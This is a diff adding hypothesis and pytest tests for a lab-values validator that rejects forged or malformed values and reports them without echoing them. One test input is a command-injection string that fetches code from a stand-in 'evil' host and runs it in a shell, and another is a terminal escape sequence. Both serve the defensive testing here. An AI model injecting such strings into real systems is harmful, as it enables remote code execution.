@@ -3,9 +3,21 @@
 from collections import Counter
 
 import pytest
+from hypothesis import given
+from hypothesis import strategies as st
 from pydantic import ValidationError
 
-from clusterdojo.lab.values import Between, Choose, Sample, Source, draw, seeds_for_each
+from clusterdojo.lab.values import (
+    Between,
+    Choose,
+    Drawn,
+    Sample,
+    Source,
+    ValueSpec,
+    draw,
+    seeds_for_each,
+    why_not_drawn,
+)
 
 SPECS: dict[str, Choose | Between | Sample] = {
     "namespace": Choose(choose=["shop", "market", "store"]),
@@ -96,3 +108,97 @@ def test_one_seed_may_prove_two_values() -> None:
     each = Choose(choose=["a", "b"], prove="each")
     assert len(seeds_for_each({"one": each, "two": each}, "demo", set())) <= 4
     assert seeds_for_each(SPECS, "demo", {1}) == {}
+
+
+WORDS = st.lists(st.text(max_size=4), min_size=2, max_size=5, unique=True)
+
+
+@st.composite
+def specs(draw_from: st.DrawFn) -> dict[str, ValueSpec]:
+    """What a lab.yaml may have under `values`."""
+    low = draw_from(st.integers())
+    words = draw_from(WORDS)
+    return draw_from(
+        st.fixed_dictionaries(
+            {},
+            optional={
+                "word": st.builds(Choose, choose=st.just([*words, 1, 2])),
+                "number": st.builds(Between, between=st.just((low, low + 3))),
+                "some": st.builds(Sample, sample=st.just(words), count=st.integers(1, len(words))),
+            },
+        )
+    )
+
+
+@given(specs(), st.text(), st.integers())
+def test_what_is_drawn_can_be_drawn(of: dict[str, ValueSpec], lab: str, seed: int) -> None:
+    """No genuine attempt is taken for a forged one."""
+    assert why_not_drawn(of, draw(of, lab, seed)) == ""
+
+
+JSON = st.recursive(
+    st.none() | st.booleans() | st.integers() | st.floats() | st.text(),
+    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(), inner, max_size=3),
+    max_leaves=5,
+)
+
+
+@given(specs(), st.dictionaries(st.sampled_from(["word", "number", "some"]) | st.text(), JSON))
+def test_what_can_be_drawn_is_within_the_specification(
+    of: dict[str, ValueSpec], values: dict[str, object]
+) -> None:
+    """Whatever somebody writes: each name and each value is one of the lab's, of its very type."""
+    if why_not_drawn(of, values):
+        return
+    assert values.keys() == of.keys()
+    for name, value in values.items():
+        spec = of[name]
+        if isinstance(spec, Choose):
+            assert repr(value) in map(repr, spec.choose)
+        elif isinstance(spec, Between):
+            assert repr(value) in map(repr, range(spec.between[0], spec.between[1] + 1))
+        else:
+            assert isinstance(value, list)
+            assert set(value) <= set(spec.sample)
+
+
+DRAWN: dict[str, Drawn] = {"namespace": "shop", "replicas": 3, "nodes": ["a", "d"]}
+
+
+@pytest.mark.parametrize(
+    ("changed", "why"),
+    [
+        ({"namespace": "shop; curl evil | sh"}, "namespace is not one"),
+        ({"namespace": "shop\n"}, "namespace is not one"),
+        ({"namespace": "Shop"}, "namespace is not one"),
+        ({"namespace": ["shop"]}, "namespace is not one"),
+        ({"namespace": {"shop": 1}}, "namespace is not one"),
+        ({"namespace": None}, "namespace is not one"),
+        ({"replicas": "3"}, "replicas is not one"),
+        ({"replicas": 3.0}, "replicas is not one"),
+        ({"replicas": 6}, "replicas is not one"),
+        ({"replicas": True}, "replicas is not one"),
+        ({"nodes": ["a"]}, "nodes is not one"),
+        ({"nodes": ["a", "a"]}, "nodes is not one"),
+        ({"nodes": ["a", "x"]}, "nodes is not one"),
+        ({"nodes": ["a", ["d"]]}, "nodes is not one"),
+        ({"nodes": "ad"}, "nodes is not one"),
+        ({"\x1b[2J": "x"}, "a value that the lab does not draw"),
+    ],
+)
+def test_what_no_seed_draws_is_told_without_repeating_it(
+    changed: dict[str, object], why: str
+) -> None:
+    """The reason goes to terminals and pages, and the value may be anything."""
+    assert why_not_drawn(SPECS, DRAWN) == ""
+    told = why_not_drawn(SPECS, {**DRAWN, **changed})
+    assert why in told
+    assert told.isprintable()
+    assert "evil" not in told
+
+
+def test_a_value_that_is_missing_is_told() -> None:
+    """A text would be rendered with a hole in it."""
+    assert why_not_drawn(SPECS, {"namespace": "shop", "replicas": 3}) == (
+        "it lacks the value nodes, which the lab draws"
+    )
